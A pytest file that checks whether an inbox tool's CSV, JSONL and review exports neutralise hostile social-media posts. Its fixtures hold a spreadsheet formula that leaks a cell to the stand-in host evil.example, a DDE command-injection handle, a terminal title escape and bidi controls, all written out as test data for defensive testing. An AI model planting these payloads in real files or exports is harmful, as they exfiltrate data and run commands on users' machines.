"""What the inbox writes for spreadsheets and terminals, when a platform sent hostile text.

A post that holds a formula, a terminal escape (OSC 2 sets the window title) and a bidi
override is exported and reviewed by the real `inbox` command in a subprocess; the files
and the output must hold no control character and no cell a spreadsheet would run.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from inbox.cli.main import main
from inbox.core.database import open_engine
from inbox.store.ingest import Store
from tests.support.items import add_account, item

REPO = Path(__file__).parents[2]

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
TITLE_ESCAPE = "\x1b]2;pwned\x07"
HOSTILE_TEXT = f"{FORMULA}{TITLE_ESCAPE} outage \u202eevil\u202c \x9b31m"
HOSTILE_HANDLE = "+cmd|' /C calc'!A0"

TERMINAL_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]"
)
"""What must never reach a terminal or a cell: C0 (but tab and newline) and C1 controls,
zero-width characters and bidi controls."""


def inbox(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "inbox.cli.main", *argv],
        cwd=REPO,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
        check=False,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )


@pytest.fixture
def db(tmp_path, capsys) -> str:
    """A lead (casey) and one Mastodon thread whose post is hostile, written a minute ago."""
    path = str(tmp_path / "inbox.db")
    main(["--db", path, "agents", "add", "casey", "--role", "lead"])
    engine = open_engine(f"sqlite:///{path}")
    account = add_account(engine, "demo-mastodon", "brand")
    hostile = dataclasses.replace(
        item("evil-1", "evil", author="mallory", text=HOSTILE_TEXT),
        created_at=datetime.now(UTC) - timedelta(minutes=1),
    )
    hostile = dataclasses.replace(
        hostile, author=dataclasses.replace(hostile.author, handle=HOSTILE_HANDLE)
    )
    Store(engine).ingest(account, "mentions", [hostile], None)
    engine.dispose()
    capsys.readouterr()
    return path


def assert_spreadsheet_safe(rows: list[dict[str, str]]) -> None:
    """No cell holds a control character or starts a formula."""
    for row in rows:
        for column, cell in row.items():
            assert not TERMINAL_CONTROLS.search(cell), (column, cell)
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_a_csv_export_to_the_terminal_neutralises_formulas_and_escapes(db):
    result = inbox("--db", db, "--as", "casey", "export", "items", "--format", "csv")

    assert result.returncode == 0, result.stderr
    assert not TERMINAL_CONTROLS.search(result.stdout)
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["text"].startswith("'" + FORMULA)
    assert "pwned" not in row["text"] and "outage evil" in row["text"]
    assert_spreadsheet_safe([row])


def test_a_csv_export_to_a_file_is_as_safe_as_on_the_terminal(db, tmp_path):
    target = tmp_path / "threads.csv"
    result = inbox(
        "--db", db, "--as", "casey", "export", "threads", "--format", "csv", "--out", str(target)
    )

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert len(rows) == 1
    assert_spreadsheet_safe(rows)


def test_json_output_escapes_what_a_terminal_would_act_on_and_reads_back_unchanged(db):
    exported = inbox("--db", db, "--as", "casey", "export", "items", "--format", "jsonl")
    listed = inbox("--db", db, "--as", "casey", "threads", "list", "--json")

    assert exported.returncode == 0 and listed.returncode == 0, exported.stderr + listed.stderr
    for output in (exported.stdout, listed.stdout):
        assert not TERMINAL_CONTROLS.search(output)
    assert json.loads(exported.stdout)["text"] == HOSTILE_TEXT
    assert "\\u202e" in exported.stdout and "\\u009b" in exported.stdout


def test_the_review_threads_csv_neutralises_formulas_and_escapes(db, tmp_path):
    declared = inbox(
        "--db", db, "--as", "casey", "incident", "declare", "Outage", "--match", "outage"
    )
    assert declared.returncode == 0, declared.stderr
    assert inbox("--db", db, "--as", "casey", "incident", "end", "1").returncode == 0
    review = tmp_path / "review.md"

    result = inbox("--db", db, "--as", "casey", "review", "1", "--out", str(review))

    assert result.returncode == 0, result.stderr
    csv_text = (tmp_path / "review-threads.csv").read_text(encoding="utf-8")
    assert not TERMINAL_CONTROLS.search(csv_text)
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert [row["author"] for row in rows] == ["'" + HOSTILE_HANDLE]
    assert_spreadsheet_safe(rows)
